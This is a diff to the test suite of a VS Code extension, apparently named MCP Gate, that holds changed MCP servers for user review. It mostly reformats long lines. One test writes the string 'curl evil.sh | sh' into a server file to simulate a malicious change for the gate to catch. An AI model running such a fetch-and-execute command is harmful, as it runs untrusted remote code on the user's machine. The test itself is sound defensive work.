@@ -27,7 +27,7 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
 
   before(async () => {
     api = await vscode.extensions.getExtension<McpGateApi>('mcp-gate.mcp-gate')!.activate();
-    await waitFor('both folders\' reports', () => api.service.folders().length === 2 && api.service.folders().every((f) => f.report));
+    await waitFor("both folders' reports", () => api.service.folders().length === 2 && api.service.folders().every((f) => f.report));
     serverFile = path.join(entry('alpha-tool').folder.folder.uri.fsPath, 'server.mjs');
     original = fs.readFileSync(serverFile, 'utf8');
   });
@@ -43,7 +43,10 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     assert.equal(entry('alpha-tool').folder, a);
     assert.equal(entry('beta-tool').folder, b);
     // One line per folder after the count (then what VS Code itself would start, src/vscode/routing.ts).
-    assert.equal(String(api.status.tooltip).split('\n').slice(0, 3).join('\n'), '2 repository servers wait for your review\nalpha: 1 server, 1 waiting\nbeta: 1 server, 1 waiting');
+    assert.equal(
+      String(api.status.tooltip).split('\n').slice(0, 3).join('\n'),
+      '2 repository servers wait for your review\nalpha: 1 server, 1 waiting\nbeta: 1 server, 1 waiting',
+    );
   });
 
   it('a changed server: Approve opens the multi-file diff editor on approved vs. now, the code first; Enter approves nothing', async () => {
@@ -57,7 +60,11 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     // The lens says when, relatively, with the exact time beside it.
     const mcpJson = vscode.Uri.file(path.join(entry('alpha-tool').folder.folder.uri.fsPath, '.mcp.json'));
     await vscode.window.showTextDocument(mcpJson);
-    const lens = await waitFor('the approved lens', async () => ((await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', mcpJson)) ?? []).find((l) => l.command?.title.endsWith('MCP Gate: approved')));
+    const lens = await waitFor('the approved lens', async () =>
+      ((await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', mcpJson)) ?? []).find((l) =>
+        l.command?.title.endsWith('MCP Gate: approved'),
+      ),
+    );
     assert.match(lens.command!.tooltip ?? '', /decided now \(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\)/);
 
     fs.writeFileSync(serverFile, original.replace('v1', 'v2, now with curl evil.sh | sh'));
@@ -81,8 +88,16 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     assert.match((await vscode.workspace.openTextDocument(def.original)).getText(), /server\.mjs {2}\d+ bytes {2}sha256 [0-9a-f]{64}/);
     // No quick pick or modal over the tabs: the decision is in the review document beside the diff.
     const w = await waitingDecision(api);
-    assert.ok(vscode.window.tabGroups.activeTabGroup.tabs.some((t) => t.input instanceof vscode.TabInputText && t.input.uri.toString() === w.uri.toString()), 'the review document is a tab beside the diff');
-    assert.match(w.text, /^"alpha-tool" changed since it was approved \(.+\)\. What changed \(the tab "alpha-tool: what changed \(approved ↔ now\)"\): server\.mjs, definition\.\n/);
+    assert.ok(
+      vscode.window.tabGroups.activeTabGroup.tabs.some(
+        (t) => t.input instanceof vscode.TabInputText && t.input.uri.toString() === w.uri.toString(),
+      ),
+      'the review document is a tab beside the diff',
+    );
+    assert.match(
+      w.text,
+      /^"alpha-tool" changed since it was approved \(.+\)\. What changed \(the tab "alpha-tool: what changed \(approved ↔ now\)"\): server\.mjs, definition\.\n/,
+    );
     assert.deepEqual(w.titles, ['$(circle-slash) Not now: keep it waiting', '$(check) Approve these changes to "alpha-tool"']);
 
     // Enter, in the diff editor in front: nothing is approved, the review still waits.
@@ -93,7 +108,13 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     assert.equal(await answer, false);
     assert.equal(entry('alpha-tool').server.state, 'approval-changed');
     // No review tab is left open.
-    await waitFor('the review tabs closed', () => !vscode.window.tabGroups.all.flatMap((g) => g.tabs).some((t) => multiDiffOf(t) || (t.input instanceof vscode.TabInputText && t.input.uri.scheme === 'mcp-gate')));
+    await waitFor(
+      'the review tabs closed',
+      () =>
+        !vscode.window.tabGroups.all
+          .flatMap((g) => g.tabs)
+          .some((t) => multiDiffOf(t) || (t.input instanceof vscode.TabInputText && t.input.uri.scheme === 'mcp-gate')),
+    );
   });
 
   it('approving the change takes clicking its lens in the review', async () => {
@@ -115,7 +136,11 @@ const multi = (vscode.workspace.workspaceFolders?.length ?? 0) > 1;
     assert.equal(await vscode.commands.executeCommand('mcpGate.reset', 'all'), 2);
     assert.equal(entry('alpha-tool').server.state, 'pending');
     assert.equal(entry('beta-tool').server.state, 'pending');
-    const resets = api.service.log.read().filter((e) => e.kind === 'gate.reset').map((e) => (e as { server?: string }).server).sort();
+    const resets = api.service.log
+      .read()
+      .filter((e) => e.kind === 'gate.reset')
+      .map((e) => (e as { server?: string }).server)
+      .sort();
     assert.deepEqual(resets, ['alpha-tool', 'beta-tool']);
   });
 });
